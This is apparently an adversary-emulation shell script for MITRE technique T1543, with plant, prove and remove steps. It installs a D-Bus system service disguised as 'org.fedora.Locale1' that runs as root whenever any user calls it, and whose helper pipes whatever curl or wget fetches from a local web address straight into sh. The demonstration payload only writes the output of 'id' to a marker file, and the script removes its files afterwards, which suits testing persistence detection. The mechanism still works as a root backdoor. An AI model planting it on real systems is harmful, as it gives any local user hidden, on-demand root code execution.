#!/bin/sh
# T1543 (quiet): A service that the system bus starts as root when anybody asks
M=/var/tmp/luytre-foothold N=26-dbus-service
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
serve() { # a page on loopback whose text writes the marker
  setsid python3 - "$1" "$M/$N" <<'END' >/dev/null 2>&1 &
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(f"id > {sys.argv[2]}; chmod 666 {sys.argv[2]}\n".encode())
s = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H); s.timeout = 75; s.handle_request()
END
  sleep 0.4; }
plant() {
  w /usr/share/dbus-1/system-services/org.fedora.Locale1.service <<'E'
[D-BUS Service]
Name=org.fedora.Locale1
Exec=/usr/libexec/locale1-helper
User=root
E
  x /usr/libexec/locale1-helper <<'E'
#!/bin/sh
(curl -fsSL http://127.0.0.1:47026/s || wget -qO- http://127.0.0.1:47026/s || python3 -c 'import urllib.request as u;print(u.urlopen("http://127.0.0.1:47026/s").read().decode())') | sh
E
  w /etc/dbus-1/system.d/org.fedora.Locale1.conf <<'E'
<!DOCTYPE busconfig PUBLIC "-//freedesktop//DTD D-BUS Bus Configuration 1.0//EN" "http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd">
<busconfig><policy context="default"><allow send_destination="org.fedora.Locale1"/></policy><policy user="root"><allow own="org.fedora.Locale1"/></policy></busconfig>
E
  busctl call org.freedesktop.DBus / org.freedesktop.DBus ReloadConfig
}
prove() {
  rm -f "$M/$N"
  serve 47026
  timeout 5 dbus-send --system --dest=org.fedora.Locale1 --print-reply / org.freedesktop.DBus.Peer.Ping >/dev/null 2>&1
  seen
}
remove() {
  rm -f /usr/share/dbus-1/system-services/org.fedora.Locale1.service /etc/dbus-1/system.d/org.fedora.Locale1.conf /usr/libexec/locale1-helper; busctl call org.freedesktop.DBus / org.freedesktop.DBus ReloadConfig
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
